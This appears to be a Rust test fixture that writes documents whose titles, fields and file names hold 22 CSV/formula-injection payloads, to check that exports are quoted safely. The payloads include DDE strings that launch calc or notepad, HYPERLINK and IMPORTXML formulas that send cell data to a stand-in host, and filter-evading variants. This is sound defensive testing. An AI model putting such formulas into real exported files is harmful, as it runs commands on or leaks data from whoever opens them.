//! Documents that hold what other programs may misread: formulas, quotes, line ends.

#![expect(clippy::unwrap_used, reason = "what fails here fails the test")]

use std::fs;

use crate::program::folder;

/// What is known to run in spreadsheets (OWASP, CSV injection), as text that a document may hold.
pub const PAYLOADS: [&str; 22] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://a.example?x=\"&A1,\"小学\")",
    "=IMPORTXML(CONCAT(\"http://a.example?\",A1),\"//a\")",
    "=2+5+cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{3000}=1+1",
    "\u{A0}@SUM(1)",
    "\"=1+1\"",
    "\",=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "小学;=1+1",
    "小学\r\n=1+1",
];

/// A folder of documents whose names, titles and sentences hold what has to be quoted.
pub fn awkward() -> tempfile::TempDir {
    let files = folder(&[]);
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let one_line = payload.replace(['\r', '\n'], " ");
        let text = format!(
            "---\ntitle: {one_line}\npublisher: {payload}\n---\n\n{payload}小学\"365\"所,\n初中,115所;\r\n增长-5%。\n"
        );
        fs::write(files.path().join(format!("{i:02}.txt")), text).unwrap();
    }
    for name in ["=1+1.txt", "@SUM(1),\"2\".txt", "-5%.txt"] {
        fs::write(files.path().join(name), "2020年全市小学3所,比上年减少5%。").unwrap();
    }
    files
}
